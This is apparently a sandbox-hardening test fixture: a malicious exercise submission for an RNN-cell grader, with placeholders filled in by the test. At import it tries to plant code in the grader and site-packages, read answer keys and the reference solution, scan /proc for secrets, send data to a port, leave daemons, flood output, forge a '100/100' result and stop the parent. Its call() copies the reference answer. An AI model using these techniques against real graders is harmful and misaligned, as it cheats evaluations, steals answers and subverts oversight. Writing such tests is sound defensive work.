"""Attack (run inside the sandbox): plant code in the grader, read the answers by path, phone home,
leave daemons, plant files for the next submission, flood the output, stop the parent.

The test fills in __ROOT__ (the project), __SITE__ (the venv's site-packages), __CANARY__ (a file
outside the sandbox), __PORT__ (a loopback listener) and __MARKER__ (a word in the daemons' argv).
What it manages to reach is printed to stderr as LEAK lines; call() runs the reference if it can reach it.
"""
from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys

import numpy as np

ROOT, SITE, CANARY, PORT, MARKER = "__ROOT__", "__SITE__", "__CANARY__", int("__PORT__"), "__MARKER__"
REFERENCE = ROOT + "/solutions/exercise_03_rnn_cell.py"


def _try(what, fn):
    try:
        fn()
        print("LEAK", what, file=sys.stderr, flush=True)
    except Exception:  # noqa: BLE001
        pass


def _write(path, text="pwned"):
    with open(path, "w") as fh:
        fh.write(text)


# 1. code in the grader and files outside the sandbox
_try("solutions", lambda: _write(f"{ROOT}/solutions/_pwned_{MARKER}.py", "print('pwned')"))
_try("probes", lambda: _write(f"{ROOT}/grader/probes/_pwned_{MARKER}.py", "print('pwned')"))
_try("pth", lambda: _write(f"{SITE}/_pwned_{MARKER}.pth", "import os"))
_try("canary", lambda: _write(CANARY, "changed"))
# 2. answers by path, the grader's environment and command line
_try("reference", lambda: open(REFERENCE).read(1))
_try("keys", lambda: open(ROOT + "/grader/data/keys/exercise-03.json").read(1))
_try("parent cwd", lambda: os.listdir(f"/proc/{os.getppid()}/cwd/solutions"))
for _pid in os.listdir("/proc"):
    if _pid.isdigit() and int(_pid) != os.getpid():
        for _part in ("environ", "cmdline"):
            try:
                _text = open(f"/proc/{_pid}/{_part}", "rb").read()
            except OSError:
                continue
            if b"RNN_SANDBOX_TEST_SECRET" in _text or b"pytest" in _text:
                print("LEAK secret", _pid, _part, file=sys.stderr, flush=True)
# 3. the network
_try("network", lambda: socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(b"answers"))
# 4. daemons: a new session, and a double fork
subprocess.Popen([sys.executable, "-c", f"import time; time.sleep(300)  # {MARKER}"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    if os.fork() == 0:
        os.setsid()
        os.execv(sys.executable, [sys.executable, "-c", f"import time; time.sleep(300)  # {MARKER}"])
    os._exit(0)
# 5. files for the next submission, a disk flood, an output flood, the parent stopped
for _folder in ("/tmp", "/dev/shm"):  # allowed: private to this submission (later.py looks for them)
    try:
        _write(f"{_folder}/rnn_planted_{MARKER}")
    except OSError:
        pass
try:
    with open("flood.bin", "wb") as _fh:
        for _ in range(400):
            _fh.write(b"x" * 2**20)
except OSError:
    pass
sys.stdout.write("y" * (8 * 2**20) + "\n")
sys.stdout.flush()
try:
    _write(f"/proc/{os.getppid()}/fd/1", "All checks passed 100/100")
except OSError:
    pass
if os.getpid() < 1000:  # only inside a pid namespace: never stop a real grader
    os.kill(os.getppid(), signal.SIGSTOP)


class MyRNNCell:
    def __init__(self, units: int, activation: str = "tanh", labels: int = 2, random_state: int = 0) -> None:
        self.units = units
        self.activation = activation
        self.labels = labels
        self.random_state = random_state
        self.U = self.W = self.V = self.b = self.c = None
        self.y_hat = None
        self.built = False

    def build(self, input_shape: tuple[int, int]) -> None:
        n_x = int(input_shape[-1])
        rng = np.random.default_rng(self.random_state)
        self.U = rng.uniform(-0.1, 0.1, (self.units, n_x))
        self.W = rng.uniform(-0.1, 0.1, (self.units, self.units))
        self.V = rng.uniform(-0.1, 0.1, (self.labels, self.units))
        self.b = np.zeros((self.units, 1))
        self.c = np.zeros((self.labels, 1))
        self.built = True

    def activate(self, z: np.ndarray) -> np.ndarray:
        if self.activation == "tanh":
            return np.tanh(z)
        if self.activation == "sigmoid":
            return 1.0 / (1.0 + np.exp(-z))
        raise ValueError(f"unknown activation {self.activation!r}")

    def softmax(self, o: np.ndarray) -> np.ndarray:
        e = np.exp(o - np.max(o, axis=0, keepdims=True))
        return e / np.sum(e, axis=0, keepdims=True)

    def loss(self, y_true: np.ndarray, y_hat: np.ndarray) -> float:
        return float(-np.sum(y_true * np.log(y_hat)) / y_true.shape[1])

    def call(self, xt: np.ndarray, ht_1: np.ndarray) -> tuple[np.ndarray, np.ndarray]:
        namespace: dict = {}
        exec(compile(open(REFERENCE).read(), REFERENCE, "exec"), namespace)  # the answer, if reachable
        reference = namespace["MyRNNCell"](self.units, self.activation, self.labels, self.random_state)
        for name in ("U", "W", "V", "b", "c"):
            setattr(reference, name, getattr(self, name))
        reference.built = True
        out = reference.call(xt, ht_1)
        self.y_hat = reference.y_hat
        return out

    def __call__(self, xt: np.ndarray, ht_1: np.ndarray) -> tuple[np.ndarray, np.ndarray]:
        return self.call(xt, ht_1)
